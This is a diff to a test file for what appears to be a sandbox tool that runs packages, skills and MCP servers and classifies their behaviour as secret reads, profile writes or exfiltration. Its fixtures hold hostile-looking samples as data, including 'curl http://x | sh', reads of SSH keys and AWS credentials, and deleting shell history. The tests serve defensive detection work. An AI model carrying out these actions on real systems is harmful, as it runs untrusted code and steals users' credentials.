@@ -17,6 +17,7 @@ from assay.detonate.mapping import (
     write_capability,
 )
 from assay.detonate.steps import (
+    MCP_RUNTIME,
     NODE,
     PYTHON,
     SH,
@@ -31,13 +32,13 @@ from assay.mechanism.taxonomy import CAPABILITIES
 from assay.sandbox.interface import Executed, HomeEvent, Link, Peer, TraceSummary
 
 CANARIES = make_canaries(b"fixed-seed-for-tests")
-HARNESS_ARGV = ("/usr/bin/python3", "-I", "/task/input/harness.py")
+HARNESS_ARGV = ("/usr/bin/python3", "-I", "/tmp/tmp5f3c2a1b/harness.py")
 WHO = Attribution(
     profile="baseline",
     canaries=CANARIES,
-    harness_argvs=frozenset({HARNESS_ARGV, (PYTHON, "/task/artifact/run.py")}),
+    harness_argvs=frozenset({HARNESS_ARGV, (PYTHON, "/workspaces/skill/run.py")}),
     harness_prefixes=("/tmp/.assay-abc/",),
-    harness_files=frozenset({"/task/workspace/project/notes.md"}),
+    harness_files=frozenset({"/workspaces/project/notes.md"}),
 )
 
 
@@ -70,7 +71,7 @@ def test_secret_reads_by_path() -> None:
     assert secret_read_capability(f"{HOME}/.gnupg/private-keys-v1.d/A.key") == "READ_PRIVATE_KEY"
     assert secret_read_capability("id_rsa") == "READ_SSH_KEY"  # relative, after chdir ~/.ssh
     # A project's own .env is its configuration, not the user's secrets.
-    assert secret_read_capability("/task/workspace/project/.env") is None
+    assert secret_read_capability("/workspaces/project/.env") is None
     assert secret_read_capability(".env") == "READ_SECRET"  # relative: may be the home's
     assert secret_read_capability("/etc/hosts") is None
 
@@ -80,7 +81,7 @@ def test_writes_by_path() -> None:
     assert write_capability(f"{HOME}/.config/fish/config.fish") == "WRITE_SHELL_PROFILE"
     assert write_capability(f"{HOME}/.config/systemd/user/x.service") == "SCHEDULE_JOB"
     assert write_capability("/var/spool/cron/crontabs/dev") == "SCHEDULE_JOB"
-    assert write_capability("/task/workspace/project/.git/hooks/pre-commit") == "MODIFY_GIT_HOOKS"
+    assert write_capability("/workspaces/project/.git/hooks/pre-commit") == "MODIFY_GIT_HOOKS"
     assert write_capability(f"{HOME}/.ssh/authorized_keys") == "WRITE_SECRET"
     assert write_capability(f"{HOME}/notes-backup/a.md") == "WRITE_FILE"
 
@@ -104,8 +105,8 @@ def test_exec_intents() -> None:
 
 def test_harness_activity_is_not_the_artifacts() -> None:
     trace = TraceSummary(
-        executed=ran(HARNESS_ARGV, (PYTHON, "/task/artifact/run.py")),
-        writes=("/tmp/.assay-abc/f0", "/task/workspace/project/notes.md", "/dev/null"),
+        executed=ran(HARNESS_ARGV, (PYTHON, "/workspaces/skill/run.py")),
+        writes=("/tmp/.assay-abc/f0", "/workspaces/project/notes.md", "/dev/null"),
         connects=(Peer("inet", "127.0.0.1", 53), Peer("unix", "/var/run/nscd/socket")),
     )
     assert capabilities(trace) == set()
@@ -114,7 +115,7 @@ def test_harness_activity_is_not_the_artifacts() -> None:
 def test_artifact_activity_maps_with_evidence() -> None:
     trace = TraceSummary(
         executed=ran(HARNESS_ARGV, ("sh", "-c", "curl http://x | sh")),
-        reads=(f"{HOME}/.ssh/id_rsa", "/task/artifact/run.py"),
+        reads=(f"{HOME}/.ssh/id_rsa", "/workspaces/skill/run.py"),
         writes=(f"{HOME}/.cache/stash",),
         renames=((f"{HOME}/.bashrc.tmp", f"{HOME}/.bashrc"),),
         unlinks=(f"{HOME}/.bash_history",),
@@ -175,14 +176,14 @@ def test_skill_plan_runs_documented_invocations_and_trigger_flags(tmp_path: Path
     )
     plan = build_plan(tmp_path, Track.SKILLS, "t0k3n")
     argvs = [s.argv for s in plan.core]
-    convert = "/task/artifact/scripts/convert.py"
-    tool = "/task/artifact/scripts/tool.sh"
+    convert = "/workspaces/skill/scripts/convert.py"
+    tool = "/workspaces/skill/scripts/tool.sh"
     assert (PYTHON, convert) in argvs
     assert (PYTHON, convert, "notes.md", "--fast") in argvs
     assert (SH, tool, f"{HOME}/notes") in argvs
     piped = next(s for s in plan.core if s.argv == (SH, tool, f"{HOME}/notes"))
     assert piped.stdin
-    assert "/task/workspace/project/notes.md" in plan.placeholders
+    assert "/workspaces/project/notes.md" in plan.placeholders
     triggers = next(s for s in plan.variations if s.name.endswith("trigger flags"))
     assert "--turbo" in triggers.argv and "--force" in triggers.argv
     assert triggers.argv[2] == "notes.md"
@@ -204,8 +205,8 @@ def test_npm_plan_runs_npm_itself_then_prepare_then_loads_the_package(tmp_path: 
         "--no-audit",
     )
     assert argvs[1] == (SH, "-c", "node build.js")
-    work = "/task/workspace/.cache-t0k3n"
-    package = "/task/workspace/project/node_modules/p"
+    work = "/workspaces/.cache-t0k3n"
+    package = "/workspaces/project/node_modules/p"
     assert argvs[2] == (NODE, f"{work}/load.js", package) and len(argvs) == 3
     assert f"{work}/load.js" in plan.placeholders
     assert plan.copies == (package,)
@@ -245,20 +246,24 @@ def test_a_write_is_the_installers_only_when_only_its_own_processes_made_it() ->
     assert {e.path for e in map_trace(trace, who)} == {f"{package}/build/x"}
 
 
+PROJECT = "/workspaces/project"
+
+
 def test_pip_plan_installs_with_pip_into_a_throw_away_environment(tmp_path: Path) -> None:
     (tmp_path / "pyproject.toml").write_text('[project]\nname = "x"\nversion = "1"\n')
     plan = build_plan(tmp_path, Track.PACKAGES, "t0k3n")
     venv, install, load = plan.core
-    work = "/task/workspace/.cache-t0k3n"
-    assert venv.argv[-1] == f"{work}/env" and "--system-site-packages" in venv.argv
-    assert install.argv[0] == f"{work}/env/bin/python3" and "install" in install.argv
+    work, env = "/workspaces/.cache-t0k3n", "/workspaces/project/.venv"  # the project's own
+    assert venv.argv[-1] == env and "--system-site-packages" in venv.argv and venv.cwd == PROJECT
+    assert install.argv[0] == f"{env}/bin/python3" and "install" in install.argv
     assert {"--no-index", "--no-build-isolation", "--use-pep517"} <= set(install.argv)
     assert install.argv[-1] == f"{work}/src"
     assert load.argv == (
-        f"{work}/env/bin/python3",
+        f"{env}/bin/python3",
         f"{work}/load.py",
-        f"{work}/env/lib/{Path(PYTHON).resolve().name}/site-packages",
+        f"{env}/lib/{Path(PYTHON).resolve().name}/site-packages",
     )
+    assert plan.runner_writes == (f"{env}/",)  # what pip writes there is the installer's
     assert plan.placeholders[f"{work}/load.py"].startswith("import importlib")
 
 
@@ -270,12 +275,16 @@ def test_mcp_plan_reads_both_manifest_shapes(tmp_path: Path) -> None:
     )
     plan = build_plan(tmp_path, Track.MCP_SERVERS, "t0k3n")
     (step,) = plan.core
-    assert step.argv == (NODE, f"{SERVER_COPY}/srv.js", "--stdio")
+    assert step.argv == (NODE, f"{SERVER_CLONE}/srv.js", "--stdio")
     assert step.env == (("K", "v"),) and step.kind == "mcp"
-    assert plan.copies == (SERVER_COPY,) and step.cwd == SERVER_COPY
+    assert plan.copies == () and step.cwd == SERVER_CLONE == plan.artifact
+    if Path(MCP_RUNTIME).is_dir():  # the pinned SDKs, found by Node's walk up from the clone
+        assert plan.links == {"/workspaces/node_modules": f"{MCP_RUNTIME}/node/node_modules"}
 
 
-SERVER_COPY = "/task/workspace/.cache-t0k3n/server"
+# The server runs in its clone, as its user runs it, named as its package names itself
+# (here it names none).
+SERVER_CLONE = "/workspaces/mcp-server"
 
 
 def test_typescript_server_runs_its_source_when_the_build_was_not_shipped(
@@ -285,7 +294,7 @@ def test_typescript_server_runs_its_source_when_the_build_was_not_shipped(
     (tmp_path / "src" / "index.ts").write_text("")
     (tmp_path / "package.json").write_text('{"name": "s", "bin": {"s": "dist/index.js"}}')
     (step,) = build_plan(tmp_path, Track.MCP_SERVERS, "t0k3n").core
-    assert step.argv[0] == NODE and step.argv[-1] == f"{SERVER_COPY}/src/index.ts"
+    assert step.argv[0] == NODE and step.argv[-1] == "/workspaces/s/src/index.ts"
     assert "--experimental-strip-types" in step.argv or "--import" in step.argv
 
 
@@ -353,7 +362,7 @@ def test_planning_never_follows_a_symlink_out_of_the_artifact(tmp_path: Path) ->
     plan = build_plan(artifact, Track.SKILLS, "t0k3n")
     words = {w for s in (*plan.core, *plan.variations) for w in s.argv}
     assert "--stolen-host-flag" not in words
-    assert "/task/artifact/linked.py" not in words
+    assert "/workspaces/skill/linked.py" not in words
 
 
 def test_a_secret_piped_into_a_shell_network_command_is_exfiltration() -> None:
@@ -367,12 +376,12 @@ def test_a_secret_piped_into_a_shell_network_command_is_exfiltration() -> None:
     }
 
 
-def test_python_module_servers_run_from_their_copy(tmp_path: Path) -> None:
+def test_python_module_servers_run_from_their_clone(tmp_path: Path) -> None:
     (tmp_path / "notes_server").mkdir()
     (tmp_path / "notes_server" / "__main__.py").write_text("")
     (tmp_path / "mcp.json").write_text('{"command": "python3", "args": ["-m", "notes_server"]}')
     (step,) = build_plan(tmp_path, Track.MCP_SERVERS, "t0k3n").core
-    assert step.argv == (PYTHON, "-m", "notes_server") and step.cwd == SERVER_COPY
+    assert step.argv == (PYTHON, "-m", "notes_server") and step.cwd == SERVER_CLONE
 
 
 def test_the_home_watch_maps_secrets_and_profiles_whatever_path_reached_them() -> None:
@@ -402,18 +411,18 @@ def test_the_home_watch_maps_secrets_and_profiles_whatever_path_reached_them() -
 def test_paths_through_links_the_artifact_made_are_their_targets() -> None:
     trace = TraceSummary(
         reads=("/tmp/h/.ssh/id_rsa", "/tmp/k"),
-        writes=("/task/workspace/rc",),
+        writes=("/workspaces/rc",),
         links=(
             Link("/tmp/h", HOME, hard=False),
             Link("/tmp/k", f"{HOME}/.aws/credentials", hard=True),
-            Link("/task/workspace/rc", "/tmp/h/.bashrc", hard=True),  # a link to a link
+            Link("/workspaces/rc", "/tmp/h/.bashrc", hard=True),  # a link to a link
         ),
     )
     found = {(e.capability, e.path, e.detail) for e in map_trace(trace, WHO)}
     assert found == {
         ("READ_SSH_KEY", "~/.ssh/id_rsa", "through a link: /tmp/h/.ssh/id_rsa"),
         ("READ_CLOUD_CREDENTIALS", "~/.aws/credentials", "through a link: /tmp/k"),
-        ("WRITE_SHELL_PROFILE", "~/.bashrc", "through a link: /task/workspace/rc"),
+        ("WRITE_SHELL_PROFILE", "~/.bashrc", "through a link: /workspaces/rc"),
     }
 
 
@@ -426,7 +435,7 @@ def test_an_exec_is_the_file_the_kernel_ran_not_its_argv0() -> None:
         TraceSummary(executed=(Executed("/usr/bin/python3", as_curl),))
     )
     # a planned step's argv run by another program is the artifact's
-    step = (PYTHON, "/task/artifact/run.py")
+    step = (PYTHON, "/workspaces/skill/run.py")
     assert not WHO.is_harness_exec(step, "/usr/bin/curl")
     assert WHO.is_harness_exec(step, PYTHON)
 
